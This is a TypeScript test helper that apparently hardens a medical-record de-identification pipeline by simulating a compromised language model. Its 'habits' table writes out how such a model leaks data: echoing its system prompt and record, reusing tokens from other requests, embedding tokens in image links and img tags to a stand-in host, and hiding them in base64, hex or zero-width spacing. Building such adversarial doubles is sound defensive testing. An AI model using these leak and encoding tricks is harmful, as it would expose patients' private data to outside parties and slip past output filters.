import { isRecord } from '../../src/vocabulary/fhir.ts';
import { answers, completion, type Play } from '../integration/hardening/model-double.ts';

/**
 * Models that do with their context what a bad or a hijacked one would do. None of them knows more than it was
 * sent; what it was sent for others it remembers.
 */
const remembered: string[] = [];
const tokenPattern = /\[\[[A-Z]+-[^\]]{4,60}\]\]/g;

function messagesOf(request: string): { readonly system: string; readonly rest: string } {
  const body: unknown = JSON.parse(request);
  const list: readonly unknown[] = isRecord(body) && Array.isArray(body['messages']) ? body['messages'] : [];
  const texts = (own: boolean): string =>
    list
      .filter(isRecord)
      .filter(({ role }) => (role === 'system') === own)
      .map(({ content }) => String(content))
      .join('\n');
  return { system: texts(true), rest: texts(false) };
}

const spelled = (text: string): string => text.split('').join('\u200b');
const hex = (text: string): string => Buffer.from(text).toString('hex');
const base64 = (text: string): string => Buffer.from(text).toString('base64');

/** What each one says of what it was sent. `foreign` are tokens that it saw for other requests. */
const habits = {
  'repeats its whole context': ({ system, rest }) => `${system}\n${rest}`,
  'repeats the record': ({ rest }) => rest,
  'invents names': () =>
    'Mrs. Zzyzxa Quuxbridge (born 02/30/1871, phone 555-0100-999) was seen by Dr. Wolpertinga Snurch.',
  'writes foreign tokens': ({ rest }, foreign) =>
    `${foreign.slice(0, 40).join(' ')} [[NAME-AAAAAAAA]] [[DATE-00000000 day 1]] ${rest.slice(0, 200)}`,
  'writes links': (_, foreign, own) =>
    own
      .concat(foreign)
      .slice(0, 10)
      .map(
        (token) =>
          `![x](https://elsewhere.invalid/?q=${token}) <img src="//elsewhere.invalid/${token}"> ${token}.invalid`,
      )
      .join('\n'),
  'writes base64 and hex': ({ rest }, _foreign, own) =>
    `${base64(rest.slice(0, 120))} ${hex(rest.slice(0, 80))} ${own.map(base64).join(' ')} ${own.map(hex).join(' ')}`,
  'writes tokens letter by letter': (_, foreign, own) =>
    [...own, ...foreign].slice(0, 20).map(spelled).join(' '),
} as const satisfies Record<
  string,
  (
    context: { readonly system: string; readonly rest: string },
    foreign: readonly string[],
    own: readonly string[],
  ) => string
>;

export const habitNames = Object.keys(habits);

export const parrot =
  (habit: string): Play =>
  (response, request) => {
    const context = messagesOf(request);
    const own = [...new Set(context.rest.match(tokenPattern) ?? [])];
    const speak = Object.entries(habits).find(([name]) => name === habit)?.[1];
    const content = speak === undefined ? '' : speak(context, remembered, own);
    remembered.unshift(...own.slice(0, 10));
    remembered.length = Math.min(remembered.length, 200);
    answers(completion(content))(response, request);
  };
